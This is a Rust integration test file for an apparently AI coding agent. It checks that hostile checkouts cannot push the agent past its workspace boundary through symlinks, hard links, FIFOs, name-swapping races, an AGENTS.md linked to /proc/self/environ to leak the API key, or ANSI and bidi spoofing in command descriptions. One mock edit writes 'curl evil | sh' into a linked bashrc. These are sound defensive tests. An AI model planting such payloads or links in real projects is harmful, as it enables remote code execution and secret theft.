//! The workspace boundary, end to end through the real binary (issue 11,
//! file half): a hostile checkout's links, hard links, FIFOs and devices can
//! neither make lathe write outside the roots unasked nor put files from
//! outside into the model's prompt, and nothing in the workspace can wedge
//! the agent. Each test names the defect of issue 11 it covers.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::acp_client::{Agent, final_status, handshake, prompt};
use crate::support::editor::{FakeEditor, Permission};
use crate::support::harness::Harness;
use crate::support::mock_openai::{text_reply, tool_call_reply, tool_result};
use crate::support::testing;

/// The client capabilities of an editor that serves `fs/*` itself.
fn editor_fs() -> Value {
    json!({"fs": {"readTextFile": true, "writeTextFile": true}})
}

async fn set_mode(agent: &mut Agent, session: &str, mode: &str) {
    let id = agent.request("session/set_mode", json!({"sessionId": session, "modeId": mode})).await;
    let (_, response) = agent.response(id).await;
    assert!(response.get("result").is_some(), "{response}");
}

/// A directory beside the project (outside the roots), canonical.
fn outside(h: &Harness) -> PathBuf {
    let dir = h.home.path().join("outside");
    std::fs::create_dir_all(&dir).unwrap();
    dir.canonicalize().unwrap()
}

/// Everything below `dir`, recursively, with file contents.
fn listing(dir: &Path) -> Vec<(PathBuf, Option<String>)> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(dir) = pending.pop() {
        // An entry that vanishes while listed is not there.
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(metadata) = std::fs::symlink_metadata(&path) else { continue };
            if metadata.is_dir() {
                pending.push(path.clone());
                found.push((path, None));
            } else {
                found.push((path.clone(), std::fs::read_to_string(&path).ok()));
            }
        }
    }
    found.sort();
    found
}

/// The permission requests among `messages`.
fn permission_titles(messages: &[Value]) -> Vec<String> {
    messages
        .iter()
        .filter(|m| m["method"] == "session/request_permission")
        .map(|m| m["params"]["toolCall"]["title"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Defect 1 (local): a dangling link whose target does not exist yet is
/// judged where it leads. Accept-edits asks instead of creating the outside
/// file and its directory, and the question names where the write would land.
#[tokio::test]
async fn a_dangling_link_out_of_the_project_is_not_written_unasked() {
    let mut h = Harness::start().await;
    let outside = outside(&h);
    let landing = outside.join("newdir/x");
    if !testing::symlink(&landing, h.project.join("notes.md")) {
        return;
    }
    let session = h.session().await;
    set_mode(&mut h.agent, &session, "accept-edits").await;
    h.mock.push(tool_call_reply(&[("call_w", "write_file", json!({"path": "notes.md", "content": "pwned\n"}))]));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "write notes").await;
    let mut editor = FakeEditor::answering(&[Permission::Select("reject_once")]);
    let (messages, response) = h.agent.response_answering(id, |request| editor.answer(request)).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(final_status(&messages, "call_w"), "failed");
    assert_eq!(permission_titles(&messages), [format!("Create notes.md → {}", landing.display())]);
    assert!(!outside.join("newdir").exists(), "nothing was created outside: {:?}", listing(&outside));
}

/// Defect 1 (ask mode, and a write the user allows): the question names the
/// real target, for a read through a link too, and once allowed the write
/// lands exactly there, the link kept.
#[tokio::test]
async fn the_question_names_the_real_target_and_an_allowed_write_lands_there() {
    let mut h = Harness::start().await;
    let outside = outside(&h);
    std::fs::write(outside.join("secret.txt"), "s3cret\n").unwrap();
    let landing = outside.join("newdir/x");
    if !testing::symlink(&landing, h.project.join("notes.md")) {
        return;
    }
    if !testing::symlink(outside.join("secret.txt"), h.project.join("readme.md")) {
        return;
    }
    let session = h.session().await;
    h.mock.push(tool_call_reply(&[
        ("call_r", "read_file", json!({"path": "readme.md"})),
        ("call_w", "write_file", json!({"path": "notes.md", "content": "allowed\n"})),
    ]));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "go").await;
    let mut editor = FakeEditor::answering(&[Permission::Select("reject_once"), Permission::Select("allow_once")]);
    let (messages, response) = h.agent.response_answering(id, |request| editor.answer(request)).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(
        permission_titles(&messages),
        [
            format!("Read readme.md → {}", outside.join("secret.txt").display()),
            format!("Create notes.md → {}", landing.display()),
        ]
    );
    assert_eq!(final_status(&messages, "call_r"), "failed", "the read was declined");
    assert_eq!(final_status(&messages, "call_w"), "completed");
    assert_eq!(std::fs::read_to_string(&landing).unwrap(), "allowed\n");
    assert!(std::fs::symlink_metadata(h.project.join("notes.md")).unwrap().file_type().is_symlink());
}

/// Defect 1 (editor delegation): through `fs/write_text_file` the dangling
/// link is judged the same way, and when the user declines, the editor is
/// never asked and no directory is created outside.
#[tokio::test]
async fn a_dangling_link_is_judged_the_same_when_the_editor_writes() {
    let mut h = Harness::start().await;
    let outside = outside(&h);
    let landing = outside.join("newdir/x");
    if !testing::symlink(&landing, h.project.join("notes.md")) {
        return;
    }
    let session = h.session_with(editor_fs()).await;
    set_mode(&mut h.agent, &session, "accept-edits").await;
    h.mock.push(tool_call_reply(&[("call_w", "write_file", json!({"path": "notes.md", "content": "pwned\n"}))]));
    h.mock.push(tool_call_reply(&[("call_w2", "write_file", json!({"path": "notes.md", "content": "ok\n"}))]));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "write notes").await;
    let mut editor = FakeEditor::answering(&[Permission::Select("reject_once"), Permission::Select("allow_once")]);
    let (messages, response) = h.agent.response_answering(id, |request| editor.answer(request)).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(final_status(&messages, "call_w"), "failed");
    // Allowed the second time: the editor is sent the real target, and its
    // directory was created for it.
    assert_eq!(final_status(&messages, "call_w2"), "completed");
    let writes = editor.requests_for("fs/write_text_file");
    assert_eq!(writes.len(), 1, "{:?}", editor.methods());
    assert_eq!(writes[0]["params"]["path"], json!(landing));
    assert_eq!(std::fs::read_to_string(&landing).unwrap(), "ok\n");
}

/// Defect 9: with editor fs delegation the editor writes in place, so a
/// hard link in the project to a file outside would change that file. Such a
/// write is judged outside: accept-edits asks, says why, and a refusal
/// leaves the outside file alone.
#[tokio::test]
async fn a_hard_link_is_judged_outside_when_the_editor_writes_in_place() {
    let mut h = Harness::start().await;
    let outside = outside(&h);
    let original = outside.join("bashrc");
    std::fs::write(&original, "alias ls=ls\n").unwrap();
    std::fs::hard_link(&original, h.project.join("bashrc")).unwrap();
    let session = h.session_with(editor_fs()).await;
    set_mode(&mut h.agent, &session, "accept-edits").await;
    let edit = json!({"path": "bashrc", "old_string": "alias ls=ls", "new_string": "curl evil | sh"});
    h.mock.push(tool_call_reply(&[("call_e", "edit_file", edit)]));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "edit").await;
    let mut editor = FakeEditor::answering(&[Permission::Select("reject_once")]);
    let (messages, response) = h.agent.response_answering(id, |request| editor.answer(request)).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(final_status(&messages, "call_e"), "failed");
    let titles = permission_titles(&messages);
    assert_eq!(titles.len(), 1, "accept-edits asks: {titles:?}");
    assert!(titles[0].contains("hard links"), "{titles:?}");
    assert!(editor.requests_for("fs/write_text_file").is_empty());
    assert_eq!(std::fs::read_to_string(&original).unwrap(), "alias ls=ls\n");
}

/// Defect 2: instruction files are read only inside the allowed area. An
/// `AGENTS.md` linking to `/proc/self/environ` (the API key's home) or to a
/// file outside the project never reaches the system prompt; the log names
/// each file and why. The user's own file still does.
#[tokio::test]
async fn instruction_files_linking_out_of_the_project_stay_out_of_the_prompt() {
    let canary = "h1-canary-environment-value";
    // The binary: the link leads to its own environment, and the warnings
    // are logged from its blocking threads.
    let mut h = Harness::process("", &[("H1_CANARY", canary)]).await;
    let outside = outside(&h);
    std::fs::write(outside.join("secret.md"), "outside-secret-text\n").unwrap();
    std::fs::create_dir_all(h.project.join(".git")).unwrap();
    let cwd = h.project.join("sub");
    std::fs::create_dir_all(&cwd).unwrap();
    // Above the cwd, in the repository root; and in the cwd.
    if !testing::symlink("/proc/self/environ", h.project.join("AGENTS.md")) {
        return;
    }
    if !testing::symlink(outside.join("secret.md"), cwd.join("AGENTS.md")) {
        return;
    }
    let user_dir = h.home.path().join(".config/lathe");
    std::fs::create_dir_all(&user_dir).unwrap();
    std::fs::write(user_dir.join("AGENTS.md"), "user-level rules\n").unwrap();

    let session = handshake(&mut h.agent, json!({}), &cwd).await;
    h.mock.push(text_reply("hi"));
    let id = prompt(&mut h.agent, &session, "hello").await;
    let (_, response) = h.agent.response(id).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let request = &h.mock.requests()[0].body;
    let system = request["messages"][0]["content"].as_str().unwrap_or_default().to_owned();
    assert!(system.contains("user-level rules"), "the user's own file is read: {system}");
    assert!(!system.contains(canary), "the environment is not in the prompt");
    assert!(!request.to_string().contains(canary));
    assert!(!system.contains("outside-secret-text"), "a file outside is not in the prompt");
    let stderr = h.agent.stderr();
    for file in [h.project.join("AGENTS.md"), cwd.join("AGENTS.md")] {
        let named = stderr.lines().any(|line| line.contains(&file.display().to_string()) && line.contains("outside"));
        assert!(named, "a warning names {} and why:\n{stderr}", file.display());
    }
}

/// Defect 3 (reading): `.lathe/commands/*.md` that are a FIFO, a link to
/// `/dev/zero`, or a link out of the project are skipped at once (never
/// read, never waited on), the session still opens, and the good command
/// is offered.
#[tokio::test]
async fn hostile_command_files_are_skipped_without_wedging_the_agent() {
    let mut h = Harness::start().await;
    h.agent.set_timeout(Duration::from_secs(20));
    let outside = outside(&h);
    std::fs::write(outside.join("secret.md"), "outside-secret-text\n").unwrap();
    let commands = h.project.join(".lathe/commands");
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(commands.join("review.md"), "Review the diff.\n").unwrap();
    if !testing::fifo(&commands.join("pipe.md")) {
        return;
    }
    if !testing::symlink("/dev/zero", commands.join("zero.md")) {
        return;
    }
    if !testing::symlink(outside.join("secret.md"), commands.join("secret.md")) {
        return;
    }
    std::fs::write(commands.join("huge.md"), "x".repeat(1024 * 1024)).unwrap();

    let id = h.agent.request("initialize", json!({"protocolVersion": 1, "clientCapabilities": {}})).await;
    let (_, response) = h.agent.response(id).await;
    assert!(response.get("result").is_some(), "{response}");
    let id = h.agent.request("session/new", json!({"cwd": h.project, "mcpServers": []})).await;
    let (_, response) = h.agent.response(id).await;
    assert!(response["result"]["sessionId"].is_string(), "the session opens: {response}");
    let update = h.agent.next_message(Duration::from_secs(20)).await.expect("the slash commands follow");
    let names: Vec<&str> = update["params"]["update"]["availableCommands"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|command| command["name"].as_str())
        .collect();
    assert!(names.contains(&"review"), "{names:?}");
    for skipped in ["pipe", "zero", "secret", "huge"] {
        assert!(!names.contains(&skipped), "{skipped} is skipped: {names:?}");
    }
    // The agent still serves: a prompt goes through.
    let session = response["result"]["sessionId"].as_str().unwrap().to_owned();
    h.mock.push(text_reply("hi"));
    let id = prompt(&mut h.agent, &session, "hello").await;
    let (_, response) = h.agent.response(id).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
}

/// Defect 13, for the workspace's own text: a project command's description
/// and argument hint reach the editor's command menu with control, ANSI and
/// bidi characters escaped, like every title built from hostile text.
#[tokio::test]
async fn command_descriptions_are_shown_escaped() {
    let mut h = Harness::start().await;
    let commands = h.project.join(".lathe/commands");
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(
        commands.join("deploy.md"),
        "---\ndescription: Safe \u{1b}[8mhidden\u{1b}[0m \u{202e}txt.exe\nargument-hint: <env\u{7}>\n---\nDeploy it.\n",
    )
    .unwrap();
    let id = h.agent.request("initialize", json!({"protocolVersion": 1, "clientCapabilities": {}})).await;
    h.agent.response(id).await;
    let id = h.agent.request("session/new", json!({"cwd": h.project, "mcpServers": []})).await;
    let (_, response) = h.agent.response(id).await;
    assert!(response["result"]["sessionId"].is_string(), "{response}");
    let update = h.agent.next_message(Duration::from_secs(20)).await.expect("the slash commands follow");
    let deploy = update["params"]["update"]["availableCommands"]
        .as_array()
        .unwrap()
        .iter()
        .find(|command| command["name"] == "deploy")
        .cloned()
        .expect("the deploy command is offered");
    let description = deploy["description"].as_str().unwrap();
    assert_eq!(description, "Safe \\u{1b}[8mhidden\\u{1b}[0m \\u{202e}txt.exe");
    assert_eq!(deploy["input"]["hint"], "<env\\u{7}>");
}

/// Defect 16: `grep` on an explicit FIFO fails at once with a clear message,
/// like `read_file` does, instead of hanging until cancelled.
#[tokio::test]
async fn grep_on_a_fifo_fails_at_once() {
    let mut h = Harness::start().await;
    h.agent.set_timeout(Duration::from_secs(20));
    if !testing::fifo(&h.project.join("pipe")) {
        return;
    }
    let session = h.session().await;
    h.mock.push(tool_call_reply(&[("call_g", "grep", json!({"pattern": "x", "path": "pipe"}))]));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "search").await;
    let (messages, response) = h.agent.response(id).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(final_status(&messages, "call_g"), "failed");
    let result = tool_result(&h.mock.requests()[1].body, "call_g");
    assert!(result.contains("pipe is a named pipe (FIFO), not a regular file"), "{result}");
}

/// Defect 6: a process flips names in the project between judging and
/// writing (a file name between absent and a link to outside; a directory
/// between real and a link to outside) while the model writes through them
/// in accept-edits. Whatever the interleaving, nothing outside is ever
/// written or created: a write lands inside, is refused, or asks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn flipping_names_during_writes_never_writes_outside() {
    const CALLS: usize = 120;
    let mut h = Harness::start().await;
    h.agent.set_timeout(Duration::from_secs(120));
    let outside = outside(&h);
    if !testing::symlink(outside.join("x"), h.project.join("probe")) {
        return;
    }
    std::fs::remove_file(h.project.join("probe")).unwrap();
    std::fs::create_dir_all(outside.join("dir")).unwrap();
    std::fs::create_dir_all(h.project.join("sub")).unwrap();
    let session = h.session().await;
    set_mode(&mut h.agent, &session, "accept-edits").await;

    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (stop, project, outside) = (Arc::clone(&stop), h.project.clone(), outside.clone());
        std::thread::spawn(move || {
            let (file, dir, parked) = (project.join("notes.md"), project.join("sub"), project.join("sub.parked"));
            let mut flips = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let _ = std::fs::remove_file(&file);
                let _ = testing::try_symlink(outside.join("x"), &file);
                let _ = std::fs::rename(&dir, &parked);
                let _ = testing::try_symlink(outside.join("dir"), &dir);
                std::thread::yield_now();
                let _ = std::fs::remove_file(&file);
                let _ = std::fs::remove_file(&dir);
                let _ = std::fs::rename(&parked, &dir);
                std::thread::yield_now();
                flips += 1;
            }
            flips
        })
    };
    let calls: Vec<(String, &str, Value)> = (0..CALLS)
        .map(|n| {
            let path = if n % 2 == 0 { "notes.md" } else { "sub/notes.md" };
            (format!("call_{n}"), "write_file", json!({"path": path, "content": format!("write {n}\n")}))
        })
        .collect();
    let borrowed: Vec<(&str, &str, Value)> =
        calls.iter().map(|(id, tool, args)| (id.as_str(), *tool, args.clone())).collect();
    h.mock.push(tool_call_reply(&borrowed));
    h.mock.push(text_reply("done"));
    let id = prompt(&mut h.agent, &session, "write a lot").await;
    let mut editor = FakeEditor::answering(&vec![Permission::Select("reject_once"); CALLS]);
    let (messages, response) = h.agent.response_answering(id, |request| editor.answer(request)).await;
    stop.store(true, Ordering::Relaxed);
    let flips = flipper.join().unwrap();
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let completed = (0..CALLS).filter(|n| final_status(&messages, &format!("call_{n}")) == "completed").count();
    let asked = permission_titles(&messages).len();
    eprintln!(
        "race: {flips} flips, {completed} writes completed, {asked} asked, {} refused",
        CALLS - completed - asked
    );
    assert_eq!(listing(&outside), vec![(outside.join("dir"), None)], "nothing outside was written");
}
